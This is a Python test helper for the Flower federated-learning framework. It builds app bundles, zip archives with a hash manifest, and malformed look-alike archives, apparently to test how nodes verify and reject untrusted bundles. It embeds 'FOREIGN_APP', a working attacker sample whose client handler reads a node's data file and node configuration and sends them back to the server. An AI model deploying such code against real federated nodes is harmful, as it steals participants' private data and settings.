"""Bundles that tests make: those of small apps, and zip files that only look like bundles."""

import hashlib
import io
import zipfile

MANIFEST = ".info/CONTENT"

PYPROJECT = """\
[project]
name = "{name}"
version = "{version}"

[tool.flwr.app]
publisher = "{publisher}"

[tool.flwr.app.components]
serverapp = "{module}:server"
clientapp = "{module}:client"

[tool.flwr.app.config]
out = ""
"""

# The twenty lines of an attacker: the client returns the node's file and its node-config.
FOREIGN_APP = """\
import json
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import ServerApp
client = ClientApp()
server = ServerApp()
@client.query()
def steal(message, context):
    node_config = dict(context.node_config)
    Path(node_config["data-path"]).with_name("foreign-code-ran").touch()
    stolen = {"file": Path(node_config["data-path"]).read_text(), "config": str(node_config)}
    return Message(RecordDict({"stolen": ConfigRecord(stolen)}), reply_to=message)
@server.main()
def main(grid, context):
    while not (nodes := list(grid.get_node_ids())):
        pass
    (reply,) = grid.send_and_receive([Message(RecordDict(), node, "query") for node in nodes])
    error = [reply.error.code, reply.error.reason] if reply.has_error() else None
    stolen = None if error else dict(reply.content["stolen"])
    Path(context.run_config["out"]).write_text(json.dumps({"error": error, "stolen": stolen}))
"""


def pyproject(publisher="stranger", name="foreign", version="1.0.0", module="app"):
    return PYPROJECT.format(publisher=publisher, name=name, version=version, module=module)


def foreign_files(**names):
    return {"pyproject.toml": pyproject(**names), "app.py": FOREIGN_APP}


def as_bytes(content):
    return content if isinstance(content, bytes) else content.encode()


def manifest_of(files):
    """The text of ``.info/CONTENT`` for files by path."""
    return "\n".join(
        f"{path},{hashlib.sha256(as_bytes(content)).hexdigest()},{8 * len(as_bytes(content))}"
        for path, content in files.items()
    )


def zipped(entries, compression=zipfile.ZIP_DEFLATED, level=None, comment=b""):
    """A zip file of pairs of a name, or a `ZipInfo`, and its content."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression, compresslevel=level) as archive:
        for name, content in entries:
            archive.writestr(name, as_bytes(content))
        archive.comment = comment
    return buffer.getvalue()


def bundle_of(files, **options):
    """The bundle of files by path, with their hashes."""
    return zipped([*files.items(), (MANIFEST, manifest_of(files))], **options)


def files_of(bundle):
    """The files of a bundle by path, without the list of hashes."""
    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
        return {path: archive.read(path) for path in archive.namelist() if path != MANIFEST}
